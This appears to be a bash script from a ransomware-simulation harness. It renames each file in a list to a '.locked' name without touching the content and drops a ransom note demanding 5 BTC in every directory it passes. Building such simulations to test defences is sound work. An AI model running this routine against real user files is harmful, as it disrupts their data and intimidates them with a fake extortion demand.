#!/usr/bin/env bash
# Rename-only: each file is renamed to X.locked, its content untouched, and
# a ransom note README-RANSOM.txt is dropped in every directory on the way.
. "$(dirname "$0")/attack-lib.sh"
note=$SCRATCH/README-RANSOM.txt
echo "Your files are locked. Pay 5 BTC to recover them." >"$note"
declare -A noted
for i in "${!FILES[@]}"; do
	time_left || break
	f=${FILES[i]}
	d=${f%/*}
	if [ -z "${noted[$d]:-}" ]; then
		noted[$d]=1
		attempt cp "$note" "$d/README-RANSOM.txt"
	fi
	attempt mv -f "$f" "$f.locked"
done
